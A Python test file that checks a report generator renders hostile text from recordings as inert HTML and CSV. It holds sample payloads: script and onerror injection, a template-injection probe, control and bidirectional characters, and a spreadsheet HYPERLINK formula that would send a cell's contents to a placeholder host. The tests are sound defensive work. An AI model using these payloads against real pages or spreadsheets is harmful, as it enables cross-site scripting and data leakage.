"""Whatever stands in a recording stays text: no markup, no script, no steering, no endless page."""

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from analysis.pull_result import Kind
from analysis.report.page import page
from analysis.report.story import tell
from analysis.report.tables import results_csv

MARKUP = "\"><script>alert(1)</script><img src=x onerror=alert(1)>'{{ 7*7 }}{% raw %}</svg></style>"
STEERING = "left\u202eright\x1b[2Jbell\x07\x00\u2028next"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
MATHS = r"$\frac{1}{$ ^_ \undefined"
HOSTILE = [MARKUP, STEERING, FORMULA, MATHS, "x" * 10_000_000, "]]>", "&amp;&lt;", "\ud800"]


class Elements(HTMLParser):
    """Every element with its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_text_from_a_recording_is_inert(altered, text):
    """The same text in every place at once: specimen, mode, flags, the reason of one pull."""
    places = dict.fromkeys(("label", "fastener", "series", "species", "board", "coating"), text)
    evidence = altered(places, mode=text, flags=(text,), chain=text)
    first, *others = evidence.pulls
    invalid = replace(first, result=replace(first.result, kind=Kind.INVALID, reason=text))
    told = replace(others[0], cut_short=text, session={"check_weight": text}, program=text)
    evidence = replace(evidence, pulls=(invalid, told, *others[1:]))
    html = page(tell(evidence))
    elements = Elements(html).found
    assert not {tag for tag, _ in elements} & {"script", "img", "iframe", "object", "base", "link"}
    assert not [name for _, attrs in elements for name in attrs if name.startswith("on")]
    assert "49" not in re.findall(r"\{\{.*?\}\}", html)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u2028]", html)
    assert len(html) < 1_500_000
    html.encode("utf-8")


@pytest.mark.parametrize("text", HOSTILE[:6], ids=range(6))
def test_keys_from_a_recording_are_inert(altered, text):
    evidence = altered({text: 1.0})
    html = page(tell(evidence))
    assert "<script>" not in html
    table = results_csv(evidence.pulls)
    assert len(table) < 2_000_000
    assert "\x1b" not in table


def test_a_level_that_is_markup_is_shown_as_it_was_typed(evidence):
    """Two levels whose names are hostile are compared, drawn and set, and stay names."""
    pulls = tuple(
        replace(
            shown,
            result=replace(
                shown.result,
                specimen={**shown.result.specimen, "fastener": [MARKUP, MATHS][place % 2]},
            ),
        )
        for place, shown in enumerate(evidence.pulls)
    )
    story = tell(replace(evidence, pulls=pulls))
    html = page(story)
    assert story.sections[0].answers[0].question.by == "fastener"
    assert not {"script", "img"} & {tag for tag, _ in Elements(html).found}
    assert "&lt;script&gt;" in html


def test_a_formula_is_defused_in_the_table(altered):
    evidence = altered({"label": FORMULA, "=1+1": "@x"})
    lines = results_csv(evidence.pulls).splitlines()
    assert not re.search(r'(^|,)"?[=@+]', "\n".join(lines))
